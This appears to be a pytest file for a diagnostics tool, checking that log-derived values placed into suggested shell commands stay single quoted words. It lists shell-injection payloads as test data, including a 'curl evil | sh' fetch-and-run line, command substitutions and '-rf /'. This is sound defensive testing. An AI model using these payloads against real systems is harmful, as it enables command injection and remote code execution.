"""Whatever a log calls a group, a topic or a host: a command that diag prints runs nothing but itself."""

from __future__ import annotations

import re
import shlex
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from analyzers.diagnosis.next_commands import Places
from analyzers.diagnosis.templates import TYPED, fill
from analyzers.report.without_secrets import without_secrets
from analyzers.rules.catalogue import load_rules
from tests import report_samples

HOSTILE = (
    "x;curl${IFS}evil|sh;",
    "$(touch pwned)",
    "`touch pwned`",
    "a b && touch pwned",
    "it's; touch pwned; echo '",
    'say "; touch pwned; echo "',
    "one\ntouch pwned\n",
    "# nothing follows",
    "-rf /",
    "a b /c/$(touch pwned) d",
    "x --bootstrap-server HOST:PORT $(touch pwned)",
    "LOG_DIRECTORY http://JOBMANAGER:8081 $(touch pwned)",
    "--password '$(touch pwned)",
    "jdbc:x://u:p@h/?password=a'`touch pwned`'",
)
_FIELD = re.compile(r"\{(\w+)\}")


def commands() -> Iterator[tuple[str, str, bool]]:
    """Where a template with a command stands, the template, and whether all of it is one."""
    for rule in load_rules():
        texts = {"": rule.next_command} if isinstance(rule.next_command, str) else dict(rule.next_command or {})
        yield from ((f"{rule.code} next {reason}", text, True) for reason, text in texts.items() if text)
        for reason, lines in rule.advice.items():
            yield from ((f"{rule.code} line {reason}", line.text, False) for line in lines)
        yield from ((f"{rule.code} fix {reason}", text, False) for reason, text in dict(rule.fix).items())  # type: ignore[call-overload]


def parsed(filled: str, whole: bool) -> list[list[str]]:
    """The words that a shell makes of each command in a text, with its operators as words of their own."""
    spans = [filled.partition("   #")[0]] if whole else re.findall(r"`([^`]*)`", filled)
    return [
        list(shlex.shlex(span.replace("'$'\\140''", "_"), posix=True, punctuation_chars=True)) for span in spans
    ]  # a back-tick's number


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_stays_one_word_of_the_command(value: str) -> None:
    wrong = []
    for place, template, whole in commands():
        fields = _FIELD.findall(template)
        if not fields or (not whole and "`" not in template):
            continue
        harmless = fill(template, None, dict.fromkeys(fields, "x"), command=whole) or ""
        values = {name: "x" if name in TYPED else value for name in fields}  # those are quoted where they are made
        hostile = fill(template, None, values, command=whole) or ""
        try:
            lengths = [len(words) for words in parsed(harmless, whole)], [len(words) for words in parsed(hostile, whole)]
        except ValueError as error:
            wrong.append(f"{place}: {error}: {hostile}")
            continue
        if lengths[0] != lengths[1]:
            wrong.append(f"{place}: {hostile}")
    assert wrong == []


_PROGRAM = r"(?:kafka-[\w-]+\.sh|diag (?:triage|collect|\w+-\w+)|flink run|kubectl|yarn|curl|jstack|ls|getent|openssl|zless|sysctl)"
_COMMAND = re.compile(rf"\b{_PROGRAM} [^`.;(]*\{{\w+\}}")


def test_a_command_with_a_value_stands_between_back_ticks() -> None:
    """Else nothing says where the command ends, and its value is not quoted."""
    bare = {f"{place}: {text}" for place, text, whole in commands() if not whole and _COMMAND.search(re.sub(r"`[^`]*`", "", text))}
    assert not bare


def test_what_needs_no_quotes_gets_none() -> None:
    assert fill("diag lag-report --group {group}", None, {"group": "orders-1"}, command=True) == "diag lag-report --group orders-1"
    assert fill("diag lag-report --group {group}", None, {"group": "or ders"}, command=True) == "diag lag-report --group 'or ders'"
    assert fill("say {group}: `ls {group}`", None, {"group": "or ders"}) == "say or ders: `ls 'or ders'`"
    assert fill("bash -c 'echo {host}'", None, {"host": "a';b"}, command=True) == "bash -c 'echo a__b'"


@pytest.mark.parametrize("value", HOSTILE)
def test_neither_addresses_nor_the_cutting_of_secrets_open_a_quote(value: str, tmp_path: Path) -> None:
    """Run by a shell that finds no other program than the one that nobody may run; `value` stands wherever a command takes one."""
    verdict = report_samples.verdict()
    source = {"scope": verdict.scope, "kind": "kafka", "name": "b", "state": "ok", "asked": value, "why": None}
    places = Places({"sources": [source], "checkpoint_files": [], "batches": []})
    asked = "diag checkpoint-inspect --strict {path} --bootstrap-server HOST:PORT   # {path}"
    typed = places.completed(fill(asked, None, {"path": f"/data/{value}"}, command=True), verdict)
    advice = places.addressed(
        fill("Ask: `diag lag-report --bootstrap-server HOST:PORT --group {group}`.", None, {"group": value}) or "", verdict
    )
    shown = without_secrets(replace(verdict, next_command=typed, steps=(advice,)))
    (code,) = re.findall(r"`([^`]*)`", shown.steps[0])
    for command in (shown.next_command or "", code):
        (tmp_path / "touch").write_text(f"#!/bin/sh\necho run > {tmp_path}/pwned\n")
        (tmp_path / "touch").chmod(0o755)
        subprocess.run(["/bin/bash", "-c", command], env={"PATH": str(tmp_path)}, cwd=tmp_path, capture_output=True, check=False)
        assert not (tmp_path / "pwned").exists(), command
        shlex.split(command.partition("   #")[0])
